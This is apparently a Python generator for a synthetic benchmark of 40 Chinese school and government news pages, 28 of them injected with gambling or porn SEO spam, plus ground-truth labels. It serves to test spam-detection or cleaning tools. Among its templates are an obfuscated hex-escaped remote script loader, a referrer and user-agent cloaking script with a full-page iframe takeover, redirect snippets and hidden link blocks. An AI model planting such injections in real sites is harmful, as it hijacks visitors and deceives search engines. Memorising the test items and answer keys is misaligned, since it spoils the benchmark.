# -*- coding: utf-8 -*-
"""Generate bench/data/dev/synthetic-v8 (was heldout/ until it was scored) (40 pages: 28 hijacked, 12 clean of which 4 legit).

python3 make_set.py [OUTDIR]     fixed seed, byte-identical on re-run.
Templates (none like the dev generators'): K1 KesionCMS-style ASP school site (GBK), M2 MetInfo-7-style college site,
H3 Halo-style blog of a youth league committee, D4 Moodle-style site-news forum post, N5 DTcms-style county government
information page with a metadata table (GB18030), P6 Baidu-MIP-style mobile government page.
Injection forms are modelled on real-cases-v8 (see README.md)."""
import html
import json
import os
import random
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from articles import ARTICLES, LEGIT  # noqa: E402

SEED = 8008
E = html.escape
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "synthetic-v8")

EDU_ORGS = ["临川职业技术学院", "江北师范学院", "南屏理工学院", "沅陵县第二中学", "东岭大学", "青石山中学", "汉江科技学院"]
GOV_ORGS = ["宁远县人民政府", "石台镇人民政府", "安平县水利局", "桐溪县公安局", "白河县卫生健康局", "清源县民政局", "嵩阳县体育局"]
SOURCES = ["党委宣传部", "办公室", "新闻中心", "融媒体中心", "县政府办", "本站原创", None]
AUTHORS = ["李明轩", "王静", "陈思远", "赵雅琴", "刘建国", "周晓燕", None]

# invented brands (checked against every dev spam string by check_brands())
BRANDS = ["鼎晟娱乐城", "拾月体育官方入口", "蓝鲸棋牌平台", "九鼎国际彩票", "悦博体育登录", "金麒麟真人视讯", "豪赢会官网",
          "恒誉国际娱乐", "云帆娱乐注册送88", "岚星竞技app下载", "汇赢彩票官网", "乐邦电竞竞猜", "博瑞国际平台", "驰骋竞技直播"]
PORN_LINES = ["午夜福利影院在线,夜色直播免费看,男人的天堂资源站,国语对白高清无删减",
              "蜜桃影视入口_夜猫社区在线观看_私密直播间免费_深夜剧场高清资源"]
DOMAINS = ["dtyl-88.vip", "shiyue-ty.cc", "lanjingqp.top", "jdgjcp.xyz", "yuebo-ty.com", "jql-live.net", "haoyinghui.app",
           "hengyu-gj.vip", "yunfanyl.cc", "xinglan-ty.top", "huiying-cp.xyz", "lebang-dj.com", "borui-pt.net", "chitu-ty.live"]

FORMS = ["brand_sub", "porn_line", "title_suffix", "headline_prefix", "keyword_headline", "promo_paras", "fixed_bar",
         "banner_links", "meta_refresh", "spam_block_h1", "emoji_brand", "noscript_loader", "hidden_links", "cloak_title"]


def cn_date(d):
    y, m, dd = d.split("-")
    return "%d月%d日" % (int(m), int(dd))


def fill(s, org, d):
    return s.replace("{org}", org).replace("{d1}", cn_date(d))


# ---------------------------------------------------------------- templates
def t_K1(p):  # KesionCMS-style ASP school site, GBK, table layout
    by = []
    if p["source"]:
        by.append("文章来源:%s" % E(p["source"]))
    by.append("作者:%s" % E(p["author"] or ""))
    by.append('点击数:<script src="/item/GetHits.asp?id=%d"></script>' % p["n"])
    by.append("更新时间:%s" % p["date"])
    return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head>
<meta http-equiv="Content-Type" content="text/html; charset=gbk" />
<title>{E(p['title_tag'])}</title>
<meta name="keywords" content="{E(p['keywords'])}" />
{p['head']}<link href="/skin/default/style.css" rel="stylesheet" type="text/css" />
</head><body>
{p['body_start']}{('<div class="toptxt">%s</div>' % E(p['lead'])) if p['lead'] else ''}
<table width="980" border="0" align="center" cellpadding="0" cellspacing="0" class="top"><tr><td><img src="/images/banner.jpg" alt="{E(p['org'])}" /></td></tr>
<tr><td class="menu"><a href="/">网站首页</a> | <a href="/xxgk/">学校概况</a> | <a href="/news/">校园新闻</a> | <a href="/jyjx/">教育教学</a> | <a href="/dqgz/">党群工作</a></td></tr></table>
<table width="980" border="0" align="center" cellpadding="0" cellspacing="0"><tr>
<td width="220" valign="top" class="left"><div class="ltit">校园新闻</div><ul><li><a href="#">学校动态</a></li><li><a href="#">通知公告</a></li></ul></td>
<td valign="top" class="right"><div class="location">您现在的位置: <a href="/">{E(p['org'])}</a> &gt;&gt; <a href="/news/">校园新闻</a> &gt;&gt; 正文</div>
<table width="100%" border="0" cellpadding="0" cellspacing="0" class="article">
<tr><td class="arttitle" align="center"><strong>{E(p['headline'])}</strong></td></tr>
<tr><td class="artinfo" align="center">{'&nbsp;&nbsp;'.join(by)}</td></tr>
<tr><td class="artcontent" id="MyContent">
{p['paras_html']}
</td></tr>
<tr><td>{p['after_body']}</td></tr>
<tr><td class="prevnext">上一篇:<a href="#">学校召开期中教学检查工作会</a><br />下一篇:<a href="#">我校教师在市优质课评比中获奖</a></td></tr>
</table></td></tr></table>
<table width="980" align="center" class="copyright"><tr><td>Copyright &copy; {E(p['org'])} 版权所有 技术支持:科汛网络</td></tr></table>
{p['body_end']}</body></html>
"""


def t_M2(p):  # MetInfo-7-style
    spans = ['<span><i class="icon wb-time margin-right-5"></i>%s</span>' % p["datetime"]]
    if p["author"]:
        spans.append('<span>发布者:%s</span>' % E(p["author"]))
    if p["source"]:
        spans.append('<span>来源:%s</span>' % E(p["source"]))
    spans.append('<span><i class="icon wb-eye margin-right-5"></i>点击次数:<span class="met-hits">%d</span></span>' % (100 + p["n"] * 7))
    return f"""<!DOCTYPE HTML>
<html class="" lang="zh-cn"><head>
<meta charset="utf-8">
<meta name="renderer" content="webkit">
<title>{E(p['title_tag'])}</title>
<meta name="description" content="{E(p['desc'])}">
<meta name="keywords" content="{E(p['keywords'])}">
{p['head']}<link href="/public/web/css/basic.css?1645672931" rel="stylesheet" type="text/css">
</head><body>
{p['body_start']}<header class="met-head" m-id="met_head"><nav class="navbar navbar-default box-shadow-none met-nav"><div class="container"><h1 hidden>{E(p['org'])}</h1>
<ul class="nav navbar-nav navlist"><li><a href="/">网站首页</a></li><li><a href="/about/">学院概况</a></li><li><a href="/news/">新闻中心</a></li><li><a href="/zsjy/">招生就业</a></li></ul></div></nav></header>
<div class="met-banner-ny"></div>
<main class="met-shownews animsition"><div class="container"><div class="row"><div class="col-md-9 met-shownews-body">
{('<div class="met-top-text">%s</div>' % E(p['lead'])) if p['lead'] else ''}
<section class="details-title border-bottom1"><h1 class="m-t-10 m-b-5">{E(p['headline'])}</h1>
<div class="info font-weight-300">{''.join(spans)}</div></section>
<section class="met-editor clearfix">
{p['paras_html']}
</section>
{p['after_body']}<div class="met-shownews-footer"><ul class="pager pager-round"><li class="previous"><a href="#">上一篇:学院召开学生工作会议</a></li><li class="next"><a href="#">下一篇:我院举办教师教学能力比赛</a></li></ul></div>
</div><aside class="col-md-3"><div class="sidebar-tile"><h3>相关新闻</h3></div></aside></div></div></main>
<footer class="met-foot-info"><div class="container">{E(p['org'])} 版权所有 Powered by MetInfo 7.5</div></footer>
{p['body_end']}</body></html>
"""


def t_H3(p):  # Halo-style blog of a youth league committee
    meta = ['<time class="post-time" datetime="%sT%s+08:00">%s</time>' % (p["date"], p["time"], p["date_cn"])]
    if p["author"]:
        meta.append('<span class="post-author">%s</span>' % E(p["author"]))
    if p["source"]:
        meta.append('<span class="post-source">来源 · %s</span>' % E(p["source"]))
    return f"""<!DOCTYPE html>
<html lang="zh-CN"><head>
<meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>{E(p['title_tag'])}</title>
<meta name="generator" content="Halo 2.11">
<meta name="keywords" content="{E(p['keywords'])}">
{p['head']}<link rel="stylesheet" href="/themes/theme-earth/assets/dist/style.css">
</head><body class="bg-gray-50">
{p['body_start']}<nav class="site-nav"><a class="site-name" href="/">{E(p['org'])}团委</a><a href="/categories/news">团学动态</a><a href="/categories/volunteer">志愿服务</a><a href="/archives">归档</a></nav>
<main class="mx-auto max-w-4xl"><article class="post card">
{('<p class="notice-bar">%s</p>' % E(p['lead'])) if p['lead'] else ''}
<header class="post-header"><h1 class="post-title">{E(p['headline'])}</h1>
<div class="post-meta">{' · '.join(meta)}</div></header>
<div class="post-content markdown-body" id="content">
{p['paras_html']}
</div>
{p['after_body']}<footer class="post-footer"><div class="post-tags"><a href="/tags/news">#团学动态</a></div><div class="post-copyright">本文链接:/archives/{p['n']}</div></footer>
</article>
<section class="comment-widget"><h2>评论</h2><p>暂无评论</p></section></main>
<footer class="site-footer">© 2025 {E(p['org'])}团委 · Powered by Halo</footer>
{p['body_end']}</body></html>
"""


def t_D4(p):  # Moodle-style site-news forum post
    by = "由 %s 发表于 %s" % (E(p["author"] or "管理员"), p["moodle_date"])
    src = ('<div class="source-note">信息来源:%s</div>' % E(p["source"])) if p["source"] else ""
    return f"""<!DOCTYPE html>
<html dir="ltr" lang="zh-cn" xml:lang="zh-cn"><head>
<title>{E(p['title_tag'])}</title>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />
<meta name="keywords" content="moodle, {E(p['keywords'])}" />
{p['head']}<link rel="stylesheet" type="text/css" href="/theme/styles.php/boost/1712345678_1/all" />
</head><body id="page-mod-forum-discuss" class="format-site course-1 path-mod path-mod-forum lang-zh_cn">
{p['body_start']}<nav class="navbar fixed-top navbar-light bg-white navbar-expand"><a class="navbar-brand" href="/">{E(p['org'])}在线学习平台</a></nav>
<div id="page" class="container-fluid"><header id="page-header"><div class="page-context-header"><h2>网站新闻</h2></div>
<nav aria-label="导航条"><ol class="breadcrumb"><li class="breadcrumb-item"><a href="/">首页</a></li><li class="breadcrumb-item"><a href="/mod/forum/view.php?id=1">网站新闻</a></li><li class="breadcrumb-item">{E(p['crumb'])}</li></ol></nav></header>
<div id="region-main"><div role="main">
<div class="discussionname">{E(p['crumb'])}</div>
<article class="forum-post-container"><div class="forumpost focus-target" data-region-content="forum-post-core">
<header class="mb-2"><h3 class="h6 font-weight-bold mb-0" data-region-content="forum-post-core-subject">{E(p['headline'])}</h3>
<div class="mb-3" tabindex="-1"><div class="author-name">{by}</div></div></header>
{('<div class="alert alert-info">%s</div>' % E(p['lead'])) if p['lead'] else ''}
<div class="post-content-container" id="post-content-{p['n']}">
{p['paras_html']}
</div>{src}
{p['after_body']}<div class="d-flex flex-wrap"><a href="#" class="btn btn-link">永久链接</a><a href="#" class="btn btn-link">回复</a></div>
</div></article></div></div></div>
<footer id="page-footer"><div class="logininfo">您以访客身份访问(<a href="/login/index.php">登录</a>)</div></footer>
{p['body_end']}</body></html>
"""


def t_N5(p):  # DTcms-style county government information page (GB18030)
    rows = [("索 引 号", "%s/%s-%05d" % ("11431126MB" + "%04d" % (1000 + p["n"]), p["date"][:4], 100 + p["n"])),
            ("主题分类", p["topic"]), ("发布机构", p["org"]), ("发文日期", p["date"]),
            ("来　　源", p["source"] or ""), ("文　　号", "")]
    table = "".join('<tr><th>%s:</th><td>%s</td></tr>' % (E(a), E(b)) for a, b in rows)
    return f"""<!DOCTYPE html>
<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=gb18030">
<title>{E(p['title_tag'])}</title>
<meta name="SiteName" content="{E(p['org'])}">
<meta name="ArticleTitle" content="{E(p['headline_meta'])}">
<meta name="PubDate" content="{p['date']} {p['time'][:5]}">
{p['head']}<link href="/templates/main/css/style.css" rel="stylesheet">
</head><body>
{p['body_start']}<div class="header"><div class="site-title">{E(p['org'])}</div><div class="nav"><a href="/">首页</a><a href="/zwgk/">政务公开</a><a href="/zwfw/">政务服务</a><a href="/hdjl/">互动交流</a></div></div>
<div class="main-box"><div class="location">当前位置:<a href="/">首页</a> &gt; <a href="/zwgk/">政务公开</a> &gt; 工作动态</div>
{('<div class="roll-notice">%s</div>' % E(p['lead'])) if p['lead'] else ''}
<table class="xxgk-table" cellspacing="0">{table}</table>
<div class="article-box"><h2 class="art-title">{E(p['headline'])}</h2>
<div class="meta">发布时间:{p['date']} {p['time'][:5]}&nbsp;&nbsp;浏览次数:<span id="click">{20 + p['n'] * 3}</span>&nbsp;&nbsp;【字体:<a href="#">大</a> <a href="#">中</a> <a href="#">小</a>】</div>
<div class="entry" id="zoom">
{p['paras_html']}
</div>
{p['after_body']}<div class="art-tools"><a href="javascript:window.print()">【打印本页】</a> <a href="javascript:window.close()">【关闭窗口】</a></div></div></div>
<div class="footer">主办:{E(p['org'])} 网站标识码:43112600{p['n']:02d} ICP备案号:湘ICP备05004{p['n']:03d}号</div>
{p['body_end']}</body></html>
"""


def t_P6(p):  # Baidu-MIP-style mobile government page
    line = "来源:%s&nbsp;&nbsp;" % E(p["source"]) if p["source"] else ""
    line += "发布时间:%s %s&nbsp;&nbsp;" % (p["date"], p["time"][:5])
    if p["author"]:
        line += "编辑:%s" % E(p["author"])
    return f"""<!DOCTYPE html>
<html mip><head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1,maximum-scale=1,user-scalable=no">
<link rel="stylesheet" type="text/css" href="https://c.mipcdn.com/static/v2/mip.css">
<link rel="canonical" href="{E(p['url'])}">
<title>{E(p['title_tag'])}</title>
{p['head']}<style mip-custom>.m-art h1{{font-size:20px}}.m-art .src{{color:#999}}</style>
</head><body>
{p['body_start']}<mip-fixed type="top" class="m-head"><a href="/m/">{E(p['org'])}</a></mip-fixed>
<div class="m-crumb"><a href="/m/">首页</a> / <a href="/m/list/12">要闻动态</a></div>
{('<div class="m-tip">%s</div>' % E(p['lead'])) if p['lead'] else ''}
<div class="m-art"><h1>{E(p['headline'])}</h1>
<p class="src">{line}</p>
<div class="m-con">
{p['paras_html']}
</div></div>
{p['after_body']}<div class="m-share"><mip-share url="{E(p['url'])}"></mip-share></div>
<div class="m-foot">{E(p['org'])}主办</div>
<script src="https://c.mipcdn.com/static/v2/mip.js"></script>
{p['body_end']}</body></html>
"""


TEMPLATES = dict(K1=(t_K1, "gbk", "edu"), M2=(t_M2, "utf-8", "edu"), H3=(t_H3, "utf-8", "edu"),
                 D4=(t_D4, "utf-8", "edu"), N5=(t_N5, "gb18030", "gov"), P6=(t_P6, "utf-8", "gov"))
HOSTS = dict(K1="www.{s}.edu.cn", M2="www.{s}.edu.cn", H3="tw.{s}.edu.cn", D4="moodle.{s}.edu.cn", N5="www.{s}.gov.cn", P6="m.{s}.gov.cn")
GOV_KEYS = ["farm", "flood", "water", "exam", "clinic", "party"]
EDU_KEYS = ["safety", "library", "employ", "party", "lab", "sport", "volunteer"]

# 40 pages: (template, kind) where kind is a form name, "clean" or a legit article key
PLAN = (
    [("K1", f) for f in ["brand_sub", "porn_line", "keyword_headline", "noscript_loader", "hidden_links"]] + [("K1", "clean")] * 2 +
    [("M2", f) for f in ["title_suffix", "promo_paras", "fixed_bar", "emoji_brand", "cloak_title"]] + [("M2", "clean"), ("M2", "regulate")] +
    [("H3", f) for f in ["headline_prefix", "banner_links", "spam_block_h1", "brand_sub", "meta_refresh"]] + [("H3", "clean")] +
    [("D4", f) for f in ["porn_line", "hidden_links", "emoji_brand", "fixed_bar", "keyword_headline"]] + [("D4", "clean")] +
    [("N5", f) for f in ["title_suffix", "noscript_loader", "cloak_title", "promo_paras"]] + [("N5", "clean"), ("N5", "fucai"), ("N5", "antigamble")] +
    [("P6", f) for f in ["headline_prefix", "banner_links", "spam_block_h1", "meta_refresh"]] + [("P6", "clean"), ("P6", "clean"), ("P6", "ticai")]
)


def slug(rng):
    return "".join(rng.choice("abcdefghjkmnpqrstwxyz") for _ in range(rng.randint(4, 7)))


def paras_html(paras, rng, tpl):
    if tpl == "K1":
        return "\n".join('<p style="text-indent:2em;">%s</p>' % E(x) for x in paras)
    if tpl == "N5":
        return "\n".join('<p style="text-align:justify;text-indent:2em;font-family:仿宋_GB2312;font-size:16pt;">%s</p>' % E(x) for x in paras)
    if tpl == "D4":
        return '<div class="text_to_html">' + "\n".join("<p>%s</p>" % E(x) for x in paras) + "</div>"
    return "\n".join("<p>%s</p>" % E(x) for x in paras)


def build_page(n, tpl, kind, rng, used_brands):
    fn, enc, domain = TEMPLATES[tpl]
    legit_art = next((a for a in LEGIT if a["key"] == kind), None)
    if legit_art:
        art = legit_art
        org = {"fucai": "清源县民政局", "antigamble": "桐溪县公安局", "ticai": "嵩阳县体育局", "regulate": "江北师范学院保卫处"}[kind]
    else:
        keys = GOV_KEYS if domain == "gov" else EDU_KEYS
        art = next(a for a in ARTICLES if a["key"] == keys[n % len(keys)])
        org = rng.choice(GOV_ORGS if domain == "gov" else EDU_ORGS)
        if art["key"] in ("exam",) and "县" not in org:
            org = "宁远县教育局"
    y = rng.choice(["2024", "2025"])
    date = "%s-%02d-%02d" % (y, rng.randint(1, 12), rng.randint(1, 28))
    tm = "%02d:%02d:%02d" % (rng.randint(8, 18), rng.randint(0, 59), rng.randint(0, 59))
    source = rng.choice(SOURCES)
    author = rng.choice(AUTHORS)
    head = fill(art["head"], org, date)
    paras = [fill(x, org, date) for x in art["paras"]]
    s = slug(rng)
    url = "https://" + HOSTS[tpl].format(s=s) + "/%s/%s/%d.html" % (
        {"K1": "Item", "M2": "news", "H3": "archives", "D4": "mod/forum/discuss.php?d=", "N5": "zwgk/gzdt", "P6": "m/content"}[tpl],
        date.replace("-", ""), 1000 + n)
    site = org
    p = dict(n=n, org=org, url=url, date=date, time=tm, datetime="%s %s" % (date, tm), source=source, author=author,
             date_cn="%s年%d月%d日" % (date[:4], int(date[5:7]), int(date[8:10])),
             moodle_date="%s年%s月%s日 %s" % (date[:4], date[5:7], date[8:10], tm[:5]),
             topic="综合政务/其他", headline=head, headline_meta=head, crumb=head,
             title_tag="%s-%s" % (head, site), keywords=org + ",新闻", desc=paras[0][:60], head="", body_start="", lead="",
             after_body="", body_end="")
    shown = list(paras)
    spam, inj = [], []
    title_truth = head
    brand = dom = None
    if kind in FORMS:
        i = len(used_brands)
        brand = BRANDS[i % len(BRANDS)]
        dom = DOMAINS[i % len(DOMAINS)]
        used_brands.append(brand)
    if kind == "brand_sub":
        short = org
        shown = [x.replace(short, brand) for x in paras]
        shown[0] = shown[0] if brand in shown[0] else brand + shown[0]
        spam, inj = [brand], ["brand_substitution_for_institution_name"]
    elif kind == "porn_line":
        line = PORN_LINES[n % 2]
        p["lead"] = line
        if n % 2 == 0:
            p["title_tag"] = line
            inj = ["porn_keyword_title", "porn_keyword_line_above_headline"]
        else:
            inj = ["porn_keyword_line_above_headline"]
        spam = [line]
    elif kind == "title_suffix":
        p["title_tag"] = "%s - %s-%s" % (head, site, brand)
        spam, inj = [brand], ["brand_in_title_suffix"]
    elif kind == "headline_prefix":
        pre = "%s 抢红包 " % brand
        p["headline"] = pre + head
        p["title_tag"] = pre + head
        spam, inj = [brand + " 抢红包", brand], ["brand_prefix_in_headline", "brand_prefix_in_title"]
    elif kind == "keyword_headline":
        q = "谁玩过%s靠谱吗" % brand
        p["headline"] = q
        p["crumb"] = q
        spam, inj = [q, brand], ["keyword_question_as_headline"]
    elif kind == "promo_paras":
        lead = "注册%s即送体验金,最新官方入口:%s" % (brand, dom)
        tail = "更多精彩赛事竞猜,请认准%s,安全稳定,提款秒到账。" % brand
        shown = [lead] + paras + [tail]
        spam, inj = [brand, dom], ["promo_lead_paragraph", "promo_tail_paragraph"]
    elif kind == "fixed_bar":
        p["body_end"] = ('<div style="position:fixed;left:0;right:0;bottom:0;z-index:9999;height:56px;background:#111;text-align:center;">'
                         '<a href="https://%s/?ref=gov" rel="nofollow noopener" target="_blank" style="color:#ffd700;font-size:16px;line-height:56px;">%s 首存送100%%</a></div>\n' % (dom, brand))
        spam, inj = [brand, dom], ["fixed_bottom_bar_gambling_link"]
    elif kind == "banner_links":
        p["after_body"] = ('<a href="https://%s/?ref=kosong" rel="nofollow"><img src="https://img.%s/uploads/banner_%d.webp" alt="" style="max-width: 100%%;"></a>\n'
                           '<a href="https://%s/daftar" rel="nofollow"><img src="https://img.%s/uploads/daftar.webp" alt="" style="max-width: 100%%;"></a>\n' % (dom, dom, n, dom, dom))
        spam, inj = [dom], ["image_banner_links_after_article"]
    elif kind == "meta_refresh":
        if tpl == "H3":
            p["head"] = '<meta http-equiv="refresh" content="3;url=https://%s/">\n' % dom
            inj = ["meta_refresh_redirect"]
        else:
            p["head"] = '<script>setTimeout(function(){window.location.replace("https://%s/?from="+encodeURIComponent(location.host));},2500);</script>\n' % dom
            inj = ["delayed_js_redirect"]
        spam = [dom]
    elif kind == "spam_block_h1":
        p["body_start"] = ('<div class="site-description" style="background:#080808;padding:10px;color:#fff;text-align:center;"><h1 style="color:#00ff04;">%s 官方网站 最新登录入口 2025</h1>'
                           '<p>欢迎来到<strong><a href="https://%s/" style="text-decoration:none;">%s</a></strong>,提供体育、真人、电子、彩票等热门游戏。</p></div>\n' % (brand, dom, brand))
        spam, inj = ["%s 官方网站 最新登录入口 2025" % brand, brand, dom], ["visible_spam_block_with_h1_before_article"]
    elif kind == "emoji_brand":
        emo = ["👉🆚", "🦝", "🧘🏼", "🐙", "🦾"]
        shown = []
        for k, x in enumerate(paras):
            x = x.replace(org, brand, 1) if k == 0 else x
            cut = len(x) // 2
            shown.append(x[:cut] + emo[k % len(emo)] + x[cut:] + emo[(k + 2) % len(emo)])
        if brand not in shown[0]:
            shown[0] = brand + shown[0]
        spam, inj = [brand], ["brand_substitution_for_institution_name", "emoji_noise"]
    elif kind == "noscript_loader":
        hexdom = "".join("\\x%02x" % ord(ch) for ch in dom)
        p["body_end"] = ('<script type="text/javascript">var _0x5a1c=["\\x73\\x63\\x72\\x69\\x70\\x74","%s"];(function(d){var s=d.createElement(_0x5a1c[0]);s.src="https://"+_0x5a1c[1]+"/tj.js?v=%d";d.getElementsByTagName("head")[0].appendChild(s);})(document);</script>\n'
                         '<noscript><a href="https://%s/">%s</a></noscript>\n' % (hexdom, n, dom, brand))
        spam, inj = [brand, dom], ["hex_escaped_script_loader", "noscript_brand_link"]
    elif kind == "hidden_links":
        others = [BRANDS[(BRANDS.index(brand) + k) % len(BRANDS)] for k in (0, 3, 7)]
        links = "".join('<a href="https://%s/" target="_blank">%s</a> ' % (DOMAINS[BRANDS.index(b)], b) for b in others)
        style = "position:absolute;left:-9999px;top:-9999px;" if n % 2 else "display:none"
        p["after_body"] = '<div class="flink" style="%s">友情链接:%s</div>\n' % (style, links)
        spam, inj = others, ["hidden_link_block_offscreen" if n % 2 else "hidden_link_block_display_none"]
    elif kind == "cloak_title":
        kw = "%s,%s官网,%s注册" % (brand, brand, brand)
        p["keywords"] = kw
        p["head"] = ('<script>var r=document.referrer.toLowerCase(),u=navigator.userAgent.toLowerCase();'
                     'if(/baidu|sogou|so\\.com|sm\\.cn|bing/.test(r)&&/mobile|android|iphone/.test(u)){document.title="%s-体育竞猜-真人娱乐";'
                     'document.write(\'<div style="position:fixed;top:0;left:0;width:100%%;height:100%%;z-index:2147483647"><iframe src="https://%s/" frameborder="0" width="100%%" height="100%%"></iframe></div>\');}</script>\n' % (brand, dom))
        spam, inj = [brand, dom], ["referrer_ua_cloaking_script", "keyword_stuffed_meta_keywords", "fullpage_iframe_takeover"]
    elif kind == "clean":
        pass
    p["paras_html"] = paras_html(shown, rng, tpl)
    if kind not in ("keyword_headline",):
        p["crumb"] = p["crumb"]
    doc = fn(p)
    clean_text = []
    for x in shown:
        for sstr in sorted(spam, key=len, reverse=True):
            x = x.replace(sstr, "")
        for emo in ["👉🆚", "🦝", "🧘🏼", "🐙", "🦾"]:
            x = x.replace(emo, "")
        if kind == "promo_paras" and (x.startswith("注册") or x.startswith("更多精彩赛事竞猜")):
            continue
        clean_text.append(x.strip())
    truth = dict(id="sy8-%03d" % (n + 1), url=url, title=title_truth, date=date,
                 source=source, author=author, text="\n".join(t for t in clean_text if t),
                 hijacked=bool(spam), injections=inj, spam_strings=spam, legit=bool(legit_art), lang="zh",
                 origin="synthetic (synthetic-generator-v8/make_set.py, seed %d)" % SEED,
                 kind="synthetic", site=url.split("/")[2], capture="html", encoding=enc, template=tpl)
    return doc, enc, truth


def check_brands():
    here = os.path.dirname(os.path.abspath(__file__))
    import glob
    dev = set()
    for f in glob.glob(os.path.join(here, "..", "..", "dev", "*", "truth.jsonl")):
        for line in open(f, encoding="utf-8"):
            if line.strip():
                dev.update(json.loads(line).get("spam_strings") or [])
    mine = BRANDS + PORN_LINES + DOMAINS
    bad = [(m, d) for m in mine for d in dev if len(d) >= 2 and (m.lower() == d.lower() or m.lower() in d.lower() or (len(d) >= 4 and d.lower() in m.lower()))]
    return len(dev), bad


def main():
    rng = random.Random(SEED)
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    used = []
    rows = []
    for n, (tpl, kind) in enumerate(PLAN):
        doc, enc, truth = build_page(n, tpl, kind, rng, used)
        with open(os.path.join(OUT, "html", truth["id"] + ".html"), "wb") as f:
            f.write(doc.encode(enc, errors="xmlcharrefreplace"))
        rows.append(truth)
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    ndev, bad = check_brands()
    print(len(rows), "pages;", sum(r["hijacked"] for r in rows), "hijacked;", sum(r["legit"] for r in rows), "legit;",
          "dev spam strings checked:", ndev, "overlaps:", bad)


if __name__ == "__main__":
    main()
